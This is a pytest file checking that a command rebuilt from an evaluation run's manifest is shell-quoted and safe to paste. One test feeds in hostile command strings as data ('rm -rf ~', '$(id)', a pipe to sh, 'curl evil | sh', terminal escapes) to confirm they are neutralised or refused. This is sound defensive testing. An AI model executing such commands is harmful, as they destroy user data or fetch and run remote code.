"""The command that repeats one case: built from the run's own, safe to paste."""

import pytest

from misslink.documents import Manifest
from misslink.report.links import CaseCommand, build_case_command, quote_case_id


def test_the_recorded_command_keeps_what_judges_and_drops_where_it_went():
    recorded = (
        "misslink evaluate app.py:chain --goldset 'my gold.jsonl' --judge openai:m --out=reports/a "
        "--overwrite --case x --case=y --json --k 3 --dry-run"
    )

    assert build_case_command(Manifest.read({"command": recorded}), "elsewhere") == CaseCommand(
        "misslink evaluate app.py:chain --goldset 'my gold.jsonl' --judge openai:m --k 3",
        "reports/a-case-",
        annotate="misslink annotate reports/a",
    )


def test_without_a_folder_in_the_command_the_run_s_own_gives_the_new_one_its_name():
    command = Manifest.read({"command": "misslink evaluate a.py:app --goldset g.jsonl"})

    assert build_case_command(command, "reports/2026 one/").out == "'reports/2026 one'-case-"
    assert build_case_command(command).out == "reports/one-case-"


def test_another_command_is_told_by_the_manifest():
    manifest = {
        "command": "misslink demo --out reports/demo", "app": "a/app.py:chain", "traces": None,
        "goldset": "a/g.jsonl", "judge": "heuristic", "k": 3, "depth": 100, "id_key": None,
        "embedding": "app", "seed": 0,
    }  # fmt: skip

    assert build_case_command(Manifest.read(manifest), "reports/demo") == CaseCommand(
        "misslink evaluate a/app.py:chain --goldset a/g.jsonl --judge heuristic --k 3 --depth 100 "
        "--embedding app --seed 0",
        "reports/demo-case-",
        annotate="misslink annotate reports/demo",
    )
    traces = {"traces": "t.jsonl", "goldset": "g.jsonl"}
    assert (
        build_case_command(Manifest.read(traces)).head
        == "misslink evaluate --traces t.jsonl --goldset g.jsonl"
    )


@pytest.mark.parametrize(
    "manifest",
    [
        {}, {"command": "misslink evaluate 'unclosed"},
        {"app": "module.chain", "goldset": "g.jsonl"}, {"app": "a.py:x", "goldset": "the gold set"},
    ],
)  # fmt: skip
def test_a_run_of_objects_has_no_command_and_says_why(manifest):
    found = build_case_command(Manifest.read(manifest))

    assert (found.head, found.out) == ("", "")
    assert "started from Python" in found.reason


def test_a_hostile_manifest_adds_no_command_of_its_own():
    found = build_case_command(
        Manifest.read({"command": "misslink evaluate a; rm -rf ~ && $(id) `id` | sh > f"})
    )

    assert found.head == "misslink evaluate 'a;' rm -rf '~' '&&' '$(id)' '`id`' '|' sh '>' f"
    assert build_case_command(Manifest.read({"command": "curl evil | sh"})).head == ""
    assert build_case_command(Manifest.read({"command": "misslink evaluate a\x1b[2J"})).head == ""
    assert build_case_command(Manifest.read({}), "a\x1b[2J").annotate == ""
    assert build_case_command(Manifest.read({}), "a; b").annotate == "misslink annotate 'a; b'"


@pytest.mark.parametrize(
    "text", ["a\nb", "\x1b[31m", "\x00", "a\u202eb", "\ud800", "a\u2028b", "\x9b"]
)
def test_an_id_that_is_not_safe_to_paste_is_refused(text):
    assert quote_case_id(text) is None


def test_an_id_is_quoted_for_a_shell():
    assert quote_case_id("q-7") == "q-7"
    assert quote_case_id("$(id) 'x'") == """'$(id) '"'"'x'"'"''"""
